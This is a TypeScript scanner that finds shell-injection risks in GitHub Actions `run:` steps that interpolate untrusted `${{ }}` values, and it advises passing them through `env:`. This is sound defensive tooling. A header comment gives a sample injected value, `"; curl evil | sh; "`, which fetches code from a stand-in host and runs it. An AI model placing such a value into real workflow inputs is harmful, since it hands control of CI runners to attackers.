// Flags `run:` scripts that interpolate untrusted or caller-controlled values with `${{ }}`.
// The expression is pasted into the script before the shell sees it, so a PR title or an input
// such as `"; curl evil | sh; "` becomes code. Pass such values through `env:` instead.
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { isMap, isPair, isScalar, isSeq, LineCounter, parseDocument, type Node } from 'yaml';

const UNSAFE: ReadonlyArray<[RegExp, string]> = [
  [/\binputs\s*[.[]/, 'inputs'],
  [/\bgithub\s*\.\s*event\s*[.[]/, 'github.event'],
  [/\bgithub\s*\.\s*head_ref\b/, 'github.head_ref'],
];

export interface InjectionFinding {
  file: string;
  line: number;
  expression: string;
  context: string;
}

/** The `${{ }}` expressions in a script that reference an untrusted context. */
export function unsafeExpressions(script: string): Array<{ expression: string; context: string }> {
  const out: Array<{ expression: string; context: string }> = [];
  for (const m of script.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
    const body = m[1] ?? '';
    const hit = UNSAFE.find(([re]) => re.test(body));
    if (hit) out.push({ expression: m[0], context: hit[1] });
  }
  return out;
}

/** Every `run:` value in a YAML text that interpolates an unsafe expression. */
export function findRunInjections(text: string, file: string): InjectionFinding[] {
  const lineCounter = new LineCounter();
  const doc = parseDocument(text, { lineCounter });
  const findings: InjectionFinding[] = [];
  const visit = (node: unknown): void => {
    if (isMap(node)) {
      for (const pair of node.items) {
        if (!isPair(pair)) continue;
        const key = isScalar(pair.key) ? pair.key.value : undefined;
        if (key === 'run' && isScalar(pair.value) && typeof pair.value.value === 'string') {
          const line = lineCounter.linePos((pair.value as Node).range?.[0] ?? 0).line;
          for (const hit of unsafeExpressions(pair.value.value))
            findings.push({ file, line, ...hit });
        }
        visit(pair.value);
      }
    } else if (isSeq(node)) {
      for (const item of node.items) visit(item);
    }
  };
  visit(doc.contents);
  return findings;
}

function walk(dir: string, accept: (name: string) => boolean, out: string[]): void {
  if (!existsSync(dir)) return;
  for (const name of readdirSync(dir).sort()) {
    if (name === 'node_modules' || name === '.git') continue;
    const path = join(dir, name);
    if (statSync(path).isDirectory()) walk(path, accept, out);
    else if (accept(name)) out.push(path);
  }
}

/** action.yml files under actions/ and every workflow/action YAML under .github/. */
export function yamlFilesToScan(root: string): string[] {
  const files: string[] = [];
  walk(join(root, 'actions'), (n) => n === 'action.yml' || n === 'action.yaml', files);
  walk(join(root, '.github'), (n) => n.endsWith('.yml') || n.endsWith('.yaml'), files);
  return files;
}

export function scanRepoForRunInjections(root: string): InjectionFinding[] {
  return yamlFilesToScan(root).flatMap((path) =>
    findRunInjections(readFileSync(path, 'utf8'), relative(root, path)),
  );
}

export function describeInjection(f: InjectionFinding): string {
  return (
    `${f.file}:${f.line}: run: interpolates ${f.expression} (${f.context}); pass it through env: ` +
    `(e.g. env: { VALUE: ${f.expression} } and use "$VALUE") so it cannot become shell code`
  );
}
